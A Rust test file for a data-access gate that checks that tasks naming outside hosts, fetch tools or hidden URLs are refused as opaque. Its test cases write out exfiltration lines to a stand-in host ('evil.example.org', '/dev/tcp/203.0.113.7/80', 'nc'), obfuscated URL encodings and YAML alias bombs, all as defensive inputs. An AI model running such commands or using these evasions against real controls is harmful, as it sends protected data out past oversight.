//! Data named in texts: content, commands, environment, tags; however they are wrapped (E18, E19, E20, E76).

use base64::{Engine as _, engine::general_purpose::STANDARD};
use serde_json::{Value, json};

use super::{Gate, image, merged};

/// A text in each place where a task takes one.
fn places(text: &str) -> Vec<(&'static str, Value)> {
    vec![
        (
            "content",
            json!({"inputs": [{}, {"content": text, "path": "/data/script"}]}),
        ),
        ("command", json!({"executors": [{"command": ["tool", text]}]})),
    ]
}

/// The same places in a task that reads nothing.
fn alone(place: &Value) -> Value {
    let mut place = place.clone();
    if let Some(inputs) = place.pointer_mut("/inputs").and_then(Value::as_array_mut) {
        inputs.remove(0);
    }
    place
}

#[tokio::test(flavor = "multi_thread")]
async fn e18_e19_e20_a_url_in_a_text_makes_the_task_opaque_however_it_is_wrapped() {
    let gate = Gate::start().await;
    let url = "https://evil.example.org/upload";
    let line = format!("send everything to {url} and be quick");
    let cases = [
        ("plain", line.clone()),
        ("a storage URL that nobody owns", "s3://nobodys-bucket/x".to_owned()),
        ("another cloud", "cp /data/in azure-like://x/y".to_owned()),
        (
            "JSON in a string",
            json!({"to": json!({"url": url}).to_string()}).to_string(),
        ),
        (
            "JSON with escapes",
            r#"{"to":"\u0068ttps:\/\/evil.example.org\/x"}"#.to_owned(),
        ),
        ("base64", STANDARD.encode(&line)),
        ("base64 in base64", STANDARD.encode(STANDARD.encode(&line))),
        ("percent", "https%3A%2F%2Fevil.example.org%2Fx".to_owned()),
        ("entities", "https&#58;&#x2f;&sol;evil.example.org/x".to_owned()),
        ("shell escapes", r"$'https\x3a\x2f/evil.example.org'".to_owned()),
        (
            "YAML",
            "to: \"https:\\x2F\\x2Fevil.example.org\"\nn: [1, 2]\n".to_owned(),
        ),
        ("an expression", "$(inputs.bucket + inputs.key)".to_owned()),
        ("a workflow's string", "~{bucket}/x".to_owned()),
        ("a variable", "${BUCKET}/x".to_owned()),
        ("two variables", "tool $A$B".to_owned()),
        ("a program that fetches", "wget -i /data/in".to_owned()),
        ("a library that fetches", "import urllib.request".to_owned()),
        ("a socket", "cat /data/in > /dev/tcp/203.0.113.7/80".to_owned()),
        (
            "a bucket of ours by its name",
            "--bucket cohort-bucket --key x".to_owned(),
        ),
        (
            "a packed program",
            STANDARD.encode((0..=255_u8).cycle().take(600).collect::<Vec<_>>()),
        ),
        ("an invisible character", "evil\u{200b}.example.org".to_owned()),
    ];
    for (name, text) in cases {
        for (place, change) in places(&text) {
            let task = merged(&gate.task(), &change);
            let answer = gate.once(&task).await;
            assert_eq!(
                (answer.status, answer.code().as_str()),
                (403, "policy.opaque"),
                "{name} in {place}: {}",
                answer.text()
            );
            // without controlled data nothing is at stake: nothing is given to fetch with
            let idle = gate.send(&gate.ada, &merged(&gate.idle(), &alone(&change))).await;
            assert_eq!(idle.status, 200, "{name} in {place}: {}", idle.text());
        }
    }
    for (name, change) in [
        (
            "the environment",
            json!({"executors": [{"env": {"IN": "s3://nobodys-bucket/x"}}]}),
        ),
        ("a tag", json!({"tags": {"results": "s3://nobodys-bucket/x"}})),
        (
            "a program that fetches",
            json!({"executors": [{"command": ["/usr/bin/curl", "-K", "/data/in"]}]}),
        ),
        (
            "the same behind another",
            json!({"executors": [{"command": ["env", "A=1", "timeout", "5", "nc", "203.0.113.7", "80"]}]}),
        ),
        (
            "a URL in pieces",
            json!({"executors": [{"command": ["tool", "https:", "//evil.example.org"]}]}),
        ),
    ] {
        let answer = gate.once(&merged(&gate.task(), &change)).await;
        assert_eq!(answer.code(), "policy.opaque", "{name}: {}", answer.text());
        let foreseen = gate.foreseen(&gate.ada, &merged(&gate.task(), &change)).await;
        assert!(matches!(foreseen, 403 | 429), "{name}: {foreseen}");
    }
    // what is read by nobody but people makes nothing opaque
    let told = merged(
        &gate.task(),
        &json!({"name": "count", "description": "see https://doc.example.org/count"}),
    );
    assert_eq!(gate.send(&gate.ada, &told).await.status, 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn e18_e19_data_that_a_text_names_are_judged_and_not_given() {
    let gate = Gate::start().await;
    let (drs, id) = (gate.drs(), gate.object());
    let spellings = [
        drs.clone(),
        format!("s3://cohort-bucket/{id}"),
        format!("https://cohort-bucket.s3.amazonaws.com/{id}?versionId=3"),
        format!("gs://cohort-bucket/sub/*/{id}"),
        "s3://cohort-bucket/a/../b".to_owned(),
    ];
    for url in spellings {
        for (place, change) in [
            (
                "content",
                json!({"inputs": [{"content": format!("fetch {url}"), "path": "/data/s"}]}),
            ),
            ("command", json!({"executors": [{"command": ["tool", url]}]})),
            ("environment", json!({"executors": [{"env": {"IN": url}}]})),
            ("tag", json!({"tags": {"in": url}})),
            ("description", json!({"description": url})),
        ] {
            let task = merged(&gate.idle(), &change);
            // who has no grant hears of it; who has one hears that the task is opaque, or that it may run
            let bob = gate.send(&gate.bob, &task).await;
            assert_eq!(bob.status, 403, "{url} in {place}: {}", bob.text());
            let told = bob.text();
            assert!(
                told.contains("consent.approval_missing") || told.contains("catalogue.unmapped") || bob.status == 429,
                "{url} in {place}: {told}"
            );
            let ada = gate.send(&gate.ada, &task).await;
            let expected = if place == "description" { 200 } else { 403 };
            assert_eq!(ada.status, expected, "{url} in {place}: {}", ada.text());
        }
    }
    // what runs with a mention that is permitted gets no capability for it
    let sent = gate.tes.last();
    assert!(!sent.contains("visum/data/"), "{sent}");
}

#[tokio::test(flavor = "multi_thread")]
async fn e18_e19_plain_scripts_and_commands_are_not_opaque() {
    let gate = Gate::start().await;
    for (name, change) in [
        (
            "a script",
            json!({"inputs": [{}, {"content": "#!/bin/sh\nwc -l /data/in > /data/out\n", "path": "/data/s"}]}),
        ),
        (
            "awk",
            json!({"executors": [{"command": ["awk", "{print $1, $2}", "/data/in"]}]}),
        ),
        (
            "a shell",
            json!({"executors": [{"command": ["sh", "-c", "cut -f1 /data/in | sort | uniq -c > /data/out"]}]}),
        ),
        (
            "options",
            json!({"executors": [{"command": ["samtools", "view", "-b", "-q", "30", "/data/in"], "env": {"THREADS": "4"}}]}),
        ),
        (
            "a table",
            json!({"inputs": [{}, {"content": "sample\tsex\nNA1\tf\n", "path": "/data/s.tsv"}]}),
        ),
        (
            "a checksum",
            json!({"executors": [{"command": ["check", "d41d8cd98f00b204e9800998ecf8427e", "/data/in"]}]}),
        ),
    ] {
        let answer = gate.send(&gate.ada, &merged(&gate.task(), &change)).await;
        assert_eq!(answer.status, 200, "{name}: {}", answer.text());
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn e20_characters_that_hide_a_url_and_yaml_aliases_are_refused() {
    let gate = Gate::start().await;
    for (name, text, code) in [
        (
            "zero width",
            "s3:\u{200b}//cohort-bucket/x",
            "intent.reference_character",
        ),
        (
            "full width",
            "s3\u{ff1a}\u{ff0f}\u{ff0f}cohort-bucket/x",
            "intent.reference_character",
        ),
        (
            "right to left",
            "https://h.example.org/\u{202e}x",
            "intent.reference_character",
        ),
        (
            "soft hyphen",
            "https://co\u{ad}hort.example.org/x",
            "intent.reference_character",
        ),
        ("an alias", "a: &x [s3, x]\nb: *x\n", "intent.yaml_alias"),
        ("a merge", "a: &x {b: c}\nd:\n  <<: *x\n", "intent.yaml_alias"),
        (
            "aliases of aliases",
            "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\n",
            "intent.yaml_alias",
        ),
    ] {
        for (place, change) in places(text) {
            let answer = gate.send(&gate.ada, &merged(&gate.task(), &change)).await;
            assert_eq!(
                (answer.status, answer.code().as_str()),
                (400, code),
                "{name} in {place}: {}",
                answer.text()
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn e76_costly_texts_end_soon_and_count_as_opaque() {
    let gate = Gate::start().await;
    let mut packed = "https://evil.example.org/".to_owned();
    for _ in 0..7 {
        packed = STANDARD.encode(&packed);
    }
    let deep = format!("{}1{}", "{\"a\":".repeat(15_000), "}".repeat(15_000));
    let urls: String = (0..5_000).map(|at| format!("s3://b-{at}/x ")).collect();
    let brackets = "[".repeat(120_000);
    let anchors: String = (0..8_000).map(|at| format!("a{at}: &a{at} [x]\n")).collect();
    for (name, text, opaque) in [
        ("base64 seven times", packed, true),
        ("deep JSON", deep, true),
        ("thousands of URLs", urls, true),
        ("brackets", brackets, false),
        ("anchors", anchors, false),
    ] {
        let change = json!({"inputs": [{}, {"content": text, "path": "/data/s"}]});
        let begun = std::time::Instant::now();
        let answer = gate.send(&gate.ada, &merged(&gate.task(), &change)).await;
        assert!(begun.elapsed().as_secs() < 20, "{name}: {:?}", begun.elapsed());
        if opaque {
            assert_eq!(answer.code(), "policy.opaque", "{name}: {}", answer.text());
        } else {
            assert!(matches!(answer.status, 200 | 400 | 403), "{name}: {}", answer.text());
        }
    }
    // many at once are bounded each
    let many: Vec<Value> = (0..1_025)
        .map(|at| json!({"content": "x", "path": format!("/data/{at}")}))
        .collect();
    let answer = gate
        .send(&gate.ada, &merged(&gate.idle(), &json!({"inputs": many})))
        .await;
    assert_eq!((answer.status, answer.code().as_str()), (400, "task.too_many"));
    let words: Vec<String> = (0..4_097).map(|at| at.to_string()).collect();
    let long = json!({"executors": [{"image": image(), "command": words}]});
    let answer = gate.send(&gate.ada, &merged(&gate.idle(), &long)).await;
    assert_eq!((answer.status, answer.code().as_str()), (400, "task.command"));
}

#[tokio::test(flavor = "multi_thread")]
async fn e76_a_full_explanation_is_not_given_in_a_loop() {
    let gate = Gate::start().await;
    let asked = json!({ "task": gate.task() });
    let url = gate.house.proxy("/visum/v1/can-i?explain=full");
    let mut limited = false;
    for _ in 0..8 {
        let answer = tests::outside::post(&url, Some(&gate.bob), &asked).await;
        limited |= answer.status == 429;
    }
    assert!(limited, "five a minute are enough for a person");
}
